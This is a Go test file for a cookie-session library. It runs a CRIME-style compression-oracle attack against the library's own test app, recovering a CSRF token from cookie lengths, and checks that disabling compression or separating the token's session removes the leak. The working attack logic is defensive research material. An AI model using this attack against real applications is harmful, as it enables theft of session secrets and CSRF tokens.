package cookie_test

import (
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/sessionware/sessions"
	"github.com/sessionware/sessions/cookie"
	"github.com/sessionware/sessions/internal/testapp"
)

// The compression oracle (docs/compression-oracle.md): an attacker who
// can put text into a victim's session and see the length of the
// victim's session cookie guesses a secret kept in the same session, one
// character at a time, as CRIME did against compressed TLS. These tests
// play that attacker against the middleware over HTTP, and measure what
// it learns with compression on and off.

// oracleSecret is the victim's CSRF token: 32 hex characters, 128 bits.
const oracleSecret = "5a4313d6ff7651ba320ff4a77f75b6ea"

const hexDigits = "0123456789abcdef"

// oracleFraming is what the session's record holds just before the
// token, from the record format and the application's keys, which the
// attacker knows: two keys, "csrf" (4 bytes) and "q" (1), then the
// token's value, 34 bytes, a string (tag 0x0f) of 32 bytes. It lets the
// attacker match the token's first characters.
const oracleFraming = "\x02\x04csrf\x01q\x22\x0f\x20"

// oracleFill makes the session too large for a plain cookie, so that the
// cookie store compresses it; it compresses to a few bytes.
var oracleFill = strings.Repeat("~", 3000)

// oracleNoise is 1,500 random bytes, the same in every probe of the
// attack whose requests get different timestamps: with every byte value
// frequent in the session, a changed timestamp hardly changes the code
// the compressor gives each byte, so it hardly changes the length.
var oracleNoise = func() string {
	rng := rand.New(rand.NewPCG(1, 2))
	b := make([]byte, 1500)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return string(b)
}()

// oracleClock is the application's clock: each reading is step later
// than the one before. The record holds the time of its last save, so
// with a step, requests that differ only in the attacker's text give
// sessions that differ in their timestamp too.
type oracleClock struct {
	mu   sync.Mutex
	now  time.Time
	step time.Duration
}

func (c *oracleClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(c.step)
	return c.now
}

// oracleSetup is how the victim's application keeps its sessions.
type oracleSetup struct {
	step       time.Duration   // between two readings of the clock
	opts       []cookie.Option // of the cookie store
	ownSession bool            // the token in a session of its own, named "csrf"
}

// oracleApp serves the victim's application: /login keeps a CSRF token in
// the session, /search the last search term, text that an attacker
// chooses by sending the victim's browser to /search?q=… The victim has
// logged in.
func oracleApp(t *testing.T, setup oracleSetup) *testapp.App {
	t.Helper()
	store, err := cookie.New(newKey(t), setup.opts...)
	if err != nil {
		t.Fatal(err)
	}
	clock := &oracleClock{now: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC), step: setup.step}
	tokenSession := cookieName
	app := testapp.NewGin(t, func(r *gin.Engine) {
		r.Use(sessions.Sessions(cookieName, store, sessions.WithClock(clock.Now)))
		if setup.ownSession {
			tokenSession = "csrf"
			r.Use(sessions.Sessions(tokenSession, store, sessions.WithClock(clock.Now)))
		}
		r.GET("/login", func(c *gin.Context) {
			sessions.Named(c, tokenSession).Set("csrf", oracleSecret)
			c.String(http.StatusOK, "ok")
		})
		r.GET("/search", func(c *gin.Context) {
			sessions.Default(c).Set("q", c.Query("q"))
			c.String(http.StatusOK, "ok")
		})
	})
	app.Expect("GET", "/login", http.StatusOK, "ok")
	return app
}

// attacker drives the victim's browser and sees the length of each
// session cookie it receives, as an eavesdropper sees the length of the
// response.
type attacker struct {
	t        *testing.T
	victim   *testapp.Browser
	fill     string      // makes the session large enough to be compressed
	seen     map[int]int // if not nil, counts the probes by cookie length
	requests int
}

// cookieLen sends the victim to /search?q=… and returns the length of the
// session cookie the response sets, 0 when it sets none.
func (a *attacker) cookieLen(q string) int {
	a.t.Helper()
	a.requests++
	resp, _ := a.victim.Do("GET", "/search?q="+url.QueryEscape(q))
	c, ok := testapp.SetCookie(resp, cookieName)
	n := len(c.Value)
	if !ok {
		n = 0
	}
	if a.seen != nil {
		a.seen[n]++
	}
	return n
}

// measure is one measurement of guess c after the context ctx, with the
// "two tries" of the CRIME attack: ctx+c+"{" and ctx+"{"+c hold the same
// characters, so compression treats them alike, unless ctx+c is in the
// session already, where the first copies it from the token and saves a
// character. It returns the difference of the two cookies' lengths. try
// varies the length of the context and of the padding, so that some tries
// hit a position the compressor indexed and land the saved character on
// a byte boundary, and the order of the two requests, so that the clock
// moving on between them favours neither.
func (a *attacker) measure(ctx string, c byte, try int) int {
	a.t.Helper()
	ctx = ctx[len(ctx)-min(len(ctx), 4+try%12):]
	pad := "~~~~~~~~" + strings.Repeat("!", try/12%4)
	g := string(c)
	copied, apart := pad+ctx+g+"{"+a.fill, pad+ctx+"{"+g+a.fill
	if try%2 == 0 {
		return a.cookieLen(apart) - a.cookieLen(copied)
	}
	return -a.cookieLen(copied) + a.cookieLen(apart)
}

// tactic says when the attacker trusts a guess: after at least minTries
// measurements of every candidate, when the sum of one candidate's
// differences is ahead of every other's by margin (in absolute value). It
// gives up on a character after maxTries, and on the attack after budget
// requests.
type tactic struct {
	margin, minTries, maxTries, budget int
}

// guess returns the character after known, or false when no candidate
// but those of skip stands out.
func (a *attacker) guess(known string, skip map[byte]bool, tc tactic) (byte, bool) {
	a.t.Helper()
	var sum [len(hexDigits)]int
	for try := range tc.maxTries {
		for i := range hexDigits {
			if !skip[hexDigits[i]] {
				sum[i] += a.measure(oracleFraming+known, hexDigits[i], try)
			}
		}
		best, first, second := 0, 0, 0
		for i, s := range sum {
			s = max(s, -s)
			switch {
			case s > first:
				best, first, second = i, s, first
			case s > second:
				second = s
			}
		}
		if try+1 >= tc.minTries && first-second >= tc.margin {
			return hexDigits[best], true
		}
	}
	return 0, false
}

// attack guesses the token character by character. When no candidate
// stands out, the last guess was likely wrong: it goes back one character
// and leaves that guess out. It returns the most leading characters it
// had right and, for each n up to that, the number of requests sent when
// it first had n right.
func (a *attacker) attack(tc tactic) (right int, requests []int) {
	a.t.Helper()
	requests = []int{0}
	known := ""
	wrong := map[string]map[byte]bool{} // guesses given up after each prefix
	for len(known) < len(oracleSecret) && a.requests < tc.budget {
		c, ok := a.guess(known, wrong[known], tc)
		switch {
		case ok:
			known += string(c)
		case known != "":
			last := known[len(known)-1]
			known = known[:len(known)-1]
			if wrong[known] == nil {
				wrong[known] = map[byte]bool{}
			}
			wrong[known][last] = true
		default:
			clear(wrong) // nothing stood out at the start: try all again
		}
		for len(requests) <= len(known) && strings.HasPrefix(oracleSecret, known[:len(requests)]) {
			requests = append(requests, a.requests)
		}
	}
	return len(requests) - 1, requests
}

// TestCompressionOracle runs the attack with compression on, while
// requests get the same timestamp (an attacker can send its two requests
// together): it must recover the whole token, as it does in about 2,700
// requests (1,400 to 5,000 in 300 runs). It fails if sessions too large
// for a plain cookie stop being compressed. SESSIONS_ORACLE=full adds the
// attack on requests 25 ms apart, which recovers the whole token in about
// 24,000 requests (18,000 to 80,000 in 30 runs; 7 s, 100 s under -race).
func TestCompressionOracle(t *testing.T) {
	for _, tc := range []struct {
		name string
		step time.Duration
		fill string
		tac  tactic
		want int // characters right at least
		slow bool
	}{
		{name: "SameMillisecond", fill: oracleFill, tac: tactic{margin: 2, minTries: 1, maxTries: 48, budget: 12_000}, want: 32},
		{name: "25msApart", step: 25 * time.Millisecond, fill: oracleFill + oracleNoise, tac: tactic{margin: 12, minTries: 8, maxTries: 160, budget: 150_000}, want: 32, slow: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.slow && os.Getenv("SESSIONS_ORACLE") != "full" {
				t.Skip("SESSIONS_ORACLE=full runs it")
			}
			a := &attacker{t: t, victim: oracleApp(t, oracleSetup{step: tc.step}).Browser, fill: tc.fill}
			right, requests := a.attack(tc.tac)
			t.Logf("compression on: %d of %d characters of the token in %d requests; requests for the first 8, 16, 24, 32: %v",
				right, len(oracleSecret), a.requests, sample(requests, 8, 16, 24, 32))
			if right < tc.want {
				t.Errorf("the attacker recovered %d characters of the token, want at least %d: is the session still compressed?", right, tc.want)
			}
		})
	}
}

// sample returns s[i] for each i within s.
func sample(s []int, is ...int) []int {
	var out []int
	for _, i := range is {
		if i < len(s) {
			out = append(out, s[i])
		}
	}
	return out
}

// TestCompressionOracleOff shows what keeps the cookie's length from
// telling anything of the token. The attacker's probes are sent as in the
// attack, at every eighth character, knowing the token up to there (the
// best an attacker could do), and the 32 probes of each measurement (16
// guesses, 2 orders, of one length) are compared. With compression off,
// every probe too large for a plain cookie sets no cookie (the session is
// not saved, whatever the guess), and the probes that fit give one length
// for every guess, as they do with compression on, since a session that
// fits is never compressed. With the token in a session of its own, the
// probes' session is compressed, but the right guess never stands out.
// With compression on and the token beside the probes, it does.
func TestCompressionOracleOff(t *testing.T) {
	off := []cookie.Option{cookie.WithCompression(false)}
	fits := oracleFill[:2700] // the session still fits a plain cookie
	for _, tc := range []struct {
		name      string
		setup     oracleSetup
		fill      string
		saved     bool // every probe sets a cookie (else none does)
		oneLength bool // every measurement sees one length
		leaks     bool // the right guess stands out at half the positions (else at none)
	}{
		{name: "Off", setup: oracleSetup{opts: off}, fill: oracleFill, oneLength: true},
		{name: "OffFits", setup: oracleSetup{opts: off}, fill: fits, saved: true, oneLength: true},
		{name: "OnFits", fill: fits, saved: true, oneLength: true},
		{name: "TokenInItsOwnSession", setup: oracleSetup{ownSession: true}, fill: oracleFill, saved: true},
		{name: "On", fill: oracleFill, saved: true, leaks: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := &attacker{t: t, victim: oracleApp(t, tc.setup).Browser, fill: tc.fill}
			var measurements, varied, unsaved int // unsaved: probes that set no cookie
			positions, found := 0, 0              // found: where the right guess alone made a difference
			for i := 0; i < len(oracleSecret); i += 8 {
				var d [len(hexDigits)]int
				for try := range 8 { // 4 tries failed the positive control (On) about once in 40 runs
					a.seen = map[int]int{}
					for j := range hexDigits {
						d[j] += a.measure(oracleFraming+oracleSecret[:i], hexDigits[j], try)
					}
					measurements++
					if len(a.seen) > 1 {
						varied++
					}
					unsaved += a.seen[0]
				}
				right := strings.IndexByte(hexDigits, oracleSecret[i])
				alone := d[right] != 0
				for j := range d {
					alone = alone && (j == right || d[j] == 0)
				}
				positions++
				if alone {
					found++
				}
			}
			t.Logf("%s: %d requests, %d set no cookie; %d of %d measurements saw more than one length; the right guess alone made a difference at %d of %d positions",
				tc.name, a.requests, unsaved, varied, measurements, found, positions)
			switch {
			case tc.saved && unsaved != 0:
				t.Errorf("%d of %d probes set no cookie, want none", unsaved, a.requests)
			case !tc.saved && unsaved != a.requests:
				t.Errorf("%d of %d probes set a cookie, want none", a.requests-unsaved, a.requests)
			}
			if tc.oneLength && varied != 0 {
				t.Errorf("%d of %d measurements saw more than one cookie length, want one length for every guess", varied, measurements)
			}
			switch {
			case tc.leaks && found < positions/2:
				t.Errorf("the right guess alone made a difference at %d of %d positions, want half at least", found, positions)
			case !tc.leaks && found != 0:
				t.Errorf("the right guess alone made a difference at %d of %d positions, want none", found, positions)
			}
		})
	}
}
